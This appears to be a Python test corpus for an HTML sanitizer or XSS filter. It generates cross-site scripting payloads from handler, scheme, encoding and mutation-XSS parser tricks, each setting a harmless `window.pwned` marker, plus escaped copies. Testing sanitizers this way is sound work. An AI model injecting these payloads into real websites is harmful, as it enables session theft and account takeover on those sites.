"""Markup that runs scripts in a browser, in many spellings. Each one would set `window.pwned`.

The lists combine elements, handlers, URL schemes, encodings, and structures that parsers read differently.
"""

import itertools
from collections.abc import Iterator
from html import escape

CODE = "window.pwned=1"
HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus autofocus", "ontoggle", "onanimationstart", "onpointerover",
    "onbegin", "onpageshow", "onscroll", "onwheel", "onbeforetoggle", "onformdata", "oncut", "ontransitionend",
)  # fmt: skip
ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input", "select", "textarea", "details open", "marquee", "iframe",
    "object data=x", "embed src=x", "math", "a href=x", "p", "table background=x", "form", "button", "x-y", "style", "link",
    "script src=x", "frameset", "isindex", "keygen", "bgsound src=x", "source src=x", "track", "animate", "set", "dialog open",
)  # fmt: skip
QUOTES = ("{h}={c}", '{h}="{c}"', "{h}='{c}'", "{h}=`{c}`", "{h} = {c}", "/{h}={c}", "{h}\n=\n'{c}'", "\x0c{h}={c}")
SCHEMES = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "\x01javascript:{c}", "java\tscript:{c}", "java\nscript:{c}",
    "java&#10;script:{c}", "&#106;avascript:{c}", "&#x6A&#x61vascript:{c}", "javascript&colon;{c}", "javascript&#58;{c}",
    "vbscript:{c}", "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={c}>", "feed:javascript:{c}", "view-source:javascript:{c}", "jar:javascript:{c}!/",
    "//javascript:{c}", "javascript://a.example/%0A{c}", "blob:javascript:{c}", "about:javascript:{c}", "%6aavascript:{c}",
    "javascript\u2028:{c}", "\u00a0javascript:{c}", "livescript:{c}", "mocha:{c}", "ｊavascript:{c}",
)  # fmt: skip
URL_ATTRIBUTES = (
    "a href", "a xlink:href", "img src", "img srcset", "img data-src", "img lowsrc", "iframe src", "iframe srcdoc", "embed src",
    "object data", "form action", "button formaction", "area href", "base href", "link href", "video poster", "blockquote cite",
    "q cite", "ins cite", "body background", "math href", "svg/a xlink:href", "image href", "use href", "source srcset",
    "meta http-equiv=refresh content", "picture/source srcset", "td background", "a ping",
)  # fmt: skip
STRUCTURES = (
    "<script>{c}</script>", "<ScRiPt >{c}</sCrIpT >", "<script/x>{c}</script>", "<script\n>{c}</script\n>", "<script>{c}",
    "<<script>{c}//<</script>", "<scr<script>ipt>{c}</scr</script>ipt>", "<script type=module>{c}</script>",
    "<svg><script>{c}</script></svg>", "<svg><script href='data:,{c}'/></svg>", "<math><script>{c}</script></math>",
    "<svg><style><img src=x onerror={c}></style></svg>", "<math><style><img src=x onerror={c}></style></math>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'></noscript>", "<textarea></textarea><img src=x onerror={c}>",
    "<title><img src=x onerror={c}></title>", "<style></style><img src=x onerror={c}>", "<xmp><img src=x onerror={c}></xmp>",
    "<template><img src=x onerror={c}></template>", "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<!--><img src=x onerror={c}>-->", "<!--<img src='--><img src=x onerror={c}>'>-->", "<!-- --!><img src=x onerror={c}>-->",
    "<![CDATA[><img src=x onerror={c}>]]>", "<svg><![CDATA[><img src=x onerror={c}>]]></svg>", "<?xml ?><img src=x onerror={c}>",
    "<?php ><script>{c}</script> ?>", "<math><mtext><table><mglyph><style><img src=x onerror={c}></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>", "<svg></p><style><a id='</style><img src=x onerror={c}>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={c}></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>", "<svg><desc><img src=x onerror={c}></desc></svg>",
    "<select><template><img src=x onerror={c}></template></select>", "<table><td><script>{c}</script></table>",
    "<p title='><script>{c}</script>'>", '<p title="&quot;><script>{c}</script>">', "<img alt='`><script>{c}</script>'>",
    "<img src='x' alt='\" onerror={c} x=\"'>", "<a href='https://a.example/\" onclick=\"{c}'>x</a>", "<img \"\"\"><script>{c}</script>\">",
    "<plaintext><script>{c}</script>", "<listing>&lt;img src=x onerror={c}&gt;</listing>", "<object><param name=src value='javascript:{c}'></object>",
    "<p style='behavior:url(#x);x:expression({c})'>", "<style>@import 'javascript:{c}';</style>", "<link rel=stylesheet href='javascript:{c}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<base href='javascript:{c}//'>", "<embed code='javascript:{c}'>",
    "<svg><animate attributeName=href values='javascript:{c}'/><a id=x></a></svg>", "<svg><a><animate attributeName=href to='javascript:{c}'/></a></svg>",
    "<svg><set attributeName=onload to='{c}'/></svg>", "<details open ontoggle={c}><summary>x</summary></details>",
    "<img src=x onerror=&#119;indow.pwned=1>", "<img src=x onerror=window['pw'+'ned']=1>", "<img/src=x/onerror={c}>", "<img\x0bsrc=x\x0bonerror={c}>",
    "<img src=x:x onerror\x00={c}>", "<\x00script>{c}</script>", "<script\x00>{c}</script>", "＜script＞{c}＜/script＞", "<ſcript>{c}</ſcript>",
    "</p><script>{c}</script>", "]]><script>{c}</script>", "--><script>{c}</script>", "'\"><script>{c}</script>", "</title><script>{c}</script>",
    "</textarea><script>{c}</script>", "</script><script>{c}</script>", "<b <script>{c}</script>>", "<a <!-- --> onclick={c}>x</a>",
    "<svg/onload={c}", "<img src=x onerror={c}//", "<div><svg><p><style><!--</style><img src=x onerror={c}>--></style>",
)  # fmt: skip


def attacks() -> Iterator[str]:
    """Yield all attacks: as they are, and some of them escaped once and twice."""
    for element, handler, quote in itertools.product(ELEMENTS, HANDLERS, QUOTES[:2]):
        yield f"<{element} {quote.format(h=handler, c=CODE)}>"
    for quote in QUOTES:
        yield f"<img src=x {quote.format(h='onerror', c=CODE)}>"
    for attribute, scheme in itertools.product(URL_ATTRIBUTES, SCHEMES):
        parents, _, last = attribute.rpartition("/")
        opened = "".join(f"<{parent}>" for parent in parents.split("/") if parent)
        yield f'{opened}<{last}="{scheme.format(c=CODE)}">text'
    structures = [structure.replace("{c}", CODE) for structure in STRUCTURES]
    yield from structures
    yield from map(escape, structures)
    yield from (escape(escape(structure)) for structure in structures)
